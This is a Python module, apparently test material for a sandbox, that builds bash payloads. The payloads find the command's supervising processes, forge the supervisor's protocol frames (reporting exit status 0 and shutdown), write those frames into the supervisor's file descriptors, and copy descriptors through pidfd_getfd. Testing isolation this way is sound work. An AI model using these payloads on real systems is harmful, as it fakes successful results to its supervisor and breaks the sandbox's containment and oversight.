"""Bash text with which a command tries to pass for its supervisor, or to harm it.

`{keeper}` is what watches the command, `{dispatcher}` what speaks to the host: parent and grandparent of the
leader.
"""

from __future__ import annotations

import struct

__all__ = ["FIND", "FRAMES", "WRITE_EVERYWHERE", "steal"]

FIND = """\
keeper=$PPID
read -r _ _ _ dispatcher _ </proc/$keeper/stat
"""


def _frame(kind: int, task: int, payload: bytes, flags: int = 0) -> bytes:
    return struct.pack("<IBBHI", len(payload), kind, flags, 0, task) + payload


def _forgery() -> bytes:
    """EXIT with status 0, END and GONE, as the warden writes them, for each of the first tasks; and BYE."""
    exit_ = struct.pack("<BxxxiQQQQ", 1, 0, 0, 0, 0, 0)
    end = struct.pack("<QQII", 0, 0, 0, 0) * 2
    forged = b"".join(
        _frame(0x84, task, exit_) + _frame(0x85, task, end) + _frame(0x86, task, bytes(4))
        for task in range(1, 9)
    )
    return forged + _frame(0x89, 0, b"")


FRAMES: bytes = _forgery()

_WRITE = f"write() {{ printf '{''.join(f'{chr(92)}{byte:03o}' for byte in FRAMES)}'; }}\n"

WRITE_EVERYWHERE = f"""{_WRITE}
for fd in {{0..255}}; do {{ write >&$fd; }} 2>/dev/null; done
for fd in /proc/self/fd/* /proc/$$/fd/* /dev/fd/*; do [ -w "$fd" ] && {{ write >"$fd"; }} 2>/dev/null; done
for pid in $keeper $dispatcher; do
    for fd in {{0..20}}; do {{ write >/proc/$pid/fd/$fd; }} 2>/dev/null; done
done
"""
"""After FIND: writes FRAMES to every descriptor that it has, and to those of keeper and dispatcher."""

# pidfd_open and pidfd_getfd have the same numbers on all architectures.
_STEAL = r"""
use POSIX;
my ($pid, $stolen) = ($ARGV[0], 0);
my $fd = syscall(434, $pid + 0, 0);
die "no pidfd: $!\n" if $fd < 0;
for my $target (0 .. 20) { $stolen++ if syscall(438, $fd, $target, 0) >= 0; }
print "$stolen\n";
"""


def steal(pid: str) -> str:
    """Prints how many descriptors of the process `pid`, a bash expression, can be copied. Needs perl."""
    return f"perl -e '{_STEAL}' {pid}\n"
